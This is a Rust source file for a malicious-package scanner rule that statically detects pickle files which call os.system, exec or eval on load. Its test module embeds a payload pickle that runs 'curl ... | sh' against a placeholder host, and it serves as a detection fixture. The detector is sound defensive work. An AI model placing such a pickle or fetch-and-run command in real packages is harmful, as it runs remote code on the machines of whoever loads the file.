//! WH304 pickled-payload: a data file of the package that is a pickle calling a command or
//! code runner when loaded.

use crate::finding::{Category, Rule};

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH304",
    name: "pickled-payload",
    description: "A file of the package is a pickle that calls os.system, subprocess, exec or eval when loaded",
    rationale: "Unpickling calls whatever the pickle names. Models, caches and fixtures name the \
                classes of numpy, scikit-learn or the package itself; a pickle naming `os.system` \
                or `builtins.exec` runs its argument the moment any code loads it \
                (`pickle.load(open('model.pkl', 'rb'))`), so the package's one visible line \
                looks like loading a model. The file is read opcode by opcode, never unpickled. \
                Security tools keep such pickles as test fixtures, hence the low weight there.",
    category: Category::Anomaly,
};

/// Weight of such a pickle among the package's own files.
pub const WEIGHT: f64 = 0.85;
/// Weight of one among tests, docs or examples (fixtures of pickle scanners).
pub const TEST_WEIGHT: f64 = 0.1;

/// Largest member read as a pickle: models are bigger, but a payload pickle is small, and the
/// opcode reader stops at the first callable that matters anyway.
pub const MAX_BYTES: u64 = 8 << 20;

/// The dangerous callable a pickle file calls and the text argument it carries, if any.
pub fn dangerous_call(data: &[u8]) -> Option<(String, String)> {
    // Protocol 2+ starts with PROTO; protocol 0/1 pickles start with an opcode that is also a
    // letter of ordinary text, which the opcode reader rejects quickly.
    let contents = crate::pickle::read(data)?;
    let callable = contents
        .callables
        .iter()
        .find(|c| super::dynamic_exec::is_dangerous_pickled_callable(c))?;
    Some((
        callable.clone(),
        contents.strings.last().cloned().unwrap_or_default(),
    ))
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
    use super::*;
    use crate::package::testing::signals_bytes;

    const SYSTEM: &[u8] = b"cposix\nsystem\np0\n(Vcurl -s http://x.invalid/m | sh\np1\ntp2\nRp3\n.";

    #[test]
    fn a_pickle_calling_a_command_runner_is_a_payload() {
        let (callable, argument) = dangerous_call(SYSTEM).unwrap();
        assert_eq!(callable, "posix.system");
        assert!(argument.contains("curl"));
        let found = signals_bytes(&[("p-1/pkg/model.pkl", SYSTEM.to_vec())]);
        let hit = found.iter().find(|f| f.rule == "WH304").unwrap();
        assert!(hit.severity >= 0.85, "{hit:?}");
        let fixture = signals_bytes(&[("p-1/tests/data/evil.pkl", SYSTEM.to_vec())]);
        let hit = fixture.iter().find(|f| f.rule == "WH304").unwrap();
        assert!(hit.severity <= 0.1, "{hit:?}");
    }

    #[test]
    fn ordinary_pickles_and_text_are_not_payloads() {
        // A protocol-2 pickle of collections.OrderedDict, and text starting like opcodes.
        let ordered = b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.";
        assert!(dangerous_call(ordered).is_none());
        assert!(dangerous_call(b"copyright 2024 the authors\nall rights reserved\n").is_none());
        let found = signals_bytes(&[("p-1/pkg/state.pkl", ordered.to_vec())]);
        assert!(found.iter().all(|f| f.rule != "WH304"));
    }
}
